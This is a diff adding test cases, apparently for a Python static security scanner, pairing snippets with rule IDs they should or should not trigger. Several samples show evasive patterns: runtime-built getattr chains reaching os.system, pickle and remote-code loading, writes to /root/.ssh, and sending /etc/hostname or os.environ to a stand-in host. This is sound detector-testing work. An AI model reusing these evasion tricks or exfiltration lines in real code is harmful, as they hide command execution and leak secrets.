@@ -200,6 +200,95 @@ static const struct {
 	{ "import re\nre.compile('x')\n", NULL, "GH-PY-0004" },
 	{ "import os\ngetattr(os, 'sys' + 'tem')('ls')\n", "GH-PY-0005", NULL },
 	{ "import torch\ngetattr(torch, 'flo' + 'at32')\n", NULL, "GH-PY-0005" },
+	/* What arguments say, whatever is called. */
+	{ "import pandas as pd\ndf = pd.DataFrame()\ndf.query('a' if x else \"@pd.io.common.os.system('x')==0\")\n",
+	  "GH-PY-0004", NULL },
+	{ "df.query('price > @limit and a == 1')\n", NULL, "GH-PY-0004" },
+	{ "import numpy as np\nkw = dict()\nkw['allow_' + 'pickle'] = True\nnp.load('x.npy', **kw)\n", "GH-PY-0010",
+	  NULL },
+	{ "import numpy as np\ndef f(config): return np.load('w.npy', **config.load_kwargs)\n", "GH-PY-0010", NULL },
+	{ "from transformers import AutoModel\ndef f(b):\n    kw = {'trust_remote' + '_code': bool(1)}\n    return "
+	  "AutoModel.from_pretrained(b, **kw)\n",
+	  "GH-PY-0019", NULL },
+	{ "from transformers import pipeline\ndef f(config): return pipeline('t', model=config.base, "
+	  "trust_remote_code=config.t)\n",
+	  "GH-PY-0019", NULL },
+	{ "from diffusers import DiffusionPipeline as D\nkw = {'custom_' + 'pipeline': "
+	  "'a/b'}\nD.from_pretrained('a/b', **kw)\n",
+	  "GH-PY-0019", NULL },
+	{ "from transformers import AutoModel\ndef f(b, trust_remote_code=False, **kwargs):\n    t = "
+	  "kwargs.pop('trust_remote_code', None)\n    kw = {'trust_remote_code': trust_remote_code}\n    return "
+	  "AutoModel.from_pretrained(b, **kw, **kwargs)\n",
+	  NULL, "GH-PY-0019" },
+	{ "from hydra.utils import instantiate\ndef build(cfg): return instantiate(cfg)\n", "GH-PY-0004", NULL },
+	{ "from PIL import Image\nImage.new('RGB', (1, 1)).save('/root/x.png')\n", "GH-PY-0011", NULL },
+	{ "import numpy as np\nm = np.memmap('/srv/x', mode='w+', shape=(3,), dtype='u1')\n", "GH-PY-0012", NULL },
+	{ "import pandas as pd\ndf = pd.DataFrame()\ngetattr(df, 'to_csv')('../../x.py')\n", "GH-PY-0012", NULL },
+	{ "from transformers import AutoTokenizer\nt = "
+	  "AutoTokenizer.from_pretrained('gpt2')\nt.save_pretrained('/root/.ssh')\n",
+	  "GH-PY-0011", NULL },
+	{ "import matplotlib.pyplot as plt, torch\nplt.savefig('loss.png')\ntorch.save({}, "
+	  "'out/model.pt')\nplt.savefig('/content/a.png')\n",
+	  NULL, "GH-PY-001" },
+	{ "import pandas as pd\npd.read_csv('http://h.example/?q=' + open('/etc/hostname').read())\n", "GH-PY-0006",
+	  NULL },
+	{ "import pandas as pd\npd.read_csv('https://h.example/data.csv')\n", NULL, "GH-PY-000" },
+	{ "from transformers.utils.hub import requests\nrequests.post('http://h.example', data='x')\n", "GH-PY-0023",
+	  NULL },
+	{ "from transformers.utils import hub as h\nx = h.requests\nx.get('http://h.example')\n", "GH-PY-0023", NULL },
+	{ "class Batch:\n    def f(self, b): return [r for r in b.requests] + self.requests\n", NULL, "GH-PY-0023" },
+	{ "class M:\n    def __init__(self): self.push_to_hub('a/b')\n", "GH-PY-0007", NULL },
+	{ "import torch.distributed.rpc as rpc\nrpc.rpc_sync('x', f)\n", "GH-PY-0007", NULL },
+	{ "from torch.distributed.launcher.api import elastic_launch\nelastic_launch(c, '/bin/sh')('-c', 'x')\n",
+	  "GH-PY-000", NULL },
+	{ "from torch._inductor.codecache import CppCodeCache\nCppCodeCache.load('void f(){}')\n", "GH-PY-0017", NULL },
+	{ "import torch_xla\nfrom google.colab import drive\n", NULL, "GH-PY-0020" },
+	/* By names made at run time, once and more often. */
+	{ "import torch\nm, p = torch, ['system', 'os', 'serialization']\nwhile p: m = getattr(m, p.pop())\nm('x')\n",
+	  "GH-PY-0023", NULL },
+	{ "import torch\ndef f(x, path=('serialization', 'os', 'system')):\n    m = torch\n    for n in path: m = "
+	  "getattr(m, n)\n    return m(x)\n",
+	  "GH-PY-0023", NULL },
+	{ "import torch\ndef walk(m, p):\n    if not p: return m\n    return walk(getattr(m, p[0]), "
+	  "p[1:])\nwalk(torch, P)('x')\n",
+	  "GH-PY-0023", NULL },
+	{ "import torch\nf = (lambda m, *n: f(getattr(m, n[0]), *n[1:]) if n else m)\nf(torch, *P)('x')\n",
+	  "GH-PY-0023", NULL },
+	{ "import torch, functools\nf = functools.reduce(lambda m, n: getattr(m, n), P, torch)\nf('x')\n", "GH-PY-0023",
+	  NULL },
+	{ "import torch\nfrom .helper import P, go\nR = go(torch, P)\n", "GH-PY-0023", NULL },
+	{ "import torch\nclass M:\n    def __init__(self, config):\n        m = getattr(torch.serialization, "
+	  "config.a)\n        self.f = getattr(m, config.b)(config.c)\n",
+	  "GH-PY-0023", NULL },
+	{ "import torch\nclass M:\n    def f(self, n): self.m = getattr(torch, n)\n    def g(self, n): return "
+	  "getattr(self.m, n)\n",
+	  "GH-PY-0023", NULL },
+	{ "import torch\ns = torch.serialization\no = getattr(s, [n for n in dir(s) if len(n) == 2][0])\nf = "
+	  "getattr(o, [n for n in dir(o)][0])\n",
+	  "GH-PY-0023", NULL },
+	{ "import torch\nl = []\nl.append(torch)\nfor n in P: l.append(getattr(l.pop(), n))\n", "GH-PY-0023", NULL },
+	{ "import torch\ndef f(config): return getattr(torch, config.f)(config.path)\n", "GH-PY-0023", NULL },
+	{ "def f(self, config):\n    m = self\n    for n in config.path: m = getattr(m, n)\n    return m\n",
+	  "GH-PY-0023", NULL },
+	{ "import torch\nmatch torch:\n    case object(hub=h):\n        h.load('a')\n", "GH-PY-0023", NULL },
+	{ "import torch\ng = type(torch).__getattribute__\n", "GH-PY-0031", NULL },
+	{ "import torch\ndef f(n): return torch.__getattribute__(n)\n", "GH-PY-0023", NULL },
+	{ "import torch\ns = torch.serialization\nfor k, v in s.__dict__.items(): v('x')\n", "GH-PY-0023", NULL },
+	{ "from operator import attrgetter\nimport torch\ndef f(p): return attrgetter(p)(torch)\n", "GH-PY-0023",
+	  NULL },
+	{ "import torch\ndef f(config): return getattr(torch, config.torch_dtype)\n", NULL, "GH-PY-0023" },
+	{ "from torch import nn\ndef f(config): return getattr(nn, config.norm)(config.dim, eps=1e-6)\n", NULL,
+	  "GH-PY-0023" },
+	{ "import torch\ndef f(model, name):\n    p = model\n    for n in name.split('.'): p = getattr(p, n)\n    "
+	  "p.data = torch.zeros(1)\n",
+	  NULL, "GH-PY-0023" },
+	{ "from torch import nn\nfrom .util import change\ndef f(m, names):\n    for n in names: m = getattr(m, n)\n   "
+	  " change(m, nn.Linear, nn.functional.gelu)\n",
+	  NULL, "GH-PY-0023" },
+	{ "class A:\n    def __getattr__(self, n):\n        try: return super().__getattr__(n)\n        except "
+	  "AttributeError: return getattr(self.module, n)\n",
+	  NULL, "GH-PY-0023" },
+	{ "match x:\n    case Point(x=0, y=b): print(b)\n", NULL, "GH-PY-0023" },
 	{ "import os, requests\nrequests.post('http://h.example', data=str(os.environ))\n", "GH-PY-0006", NULL },
 	/* the token of a bot is part of its address; what is sent there is another matter */
 	{ "import os, requests\ndef f(x):\n    "
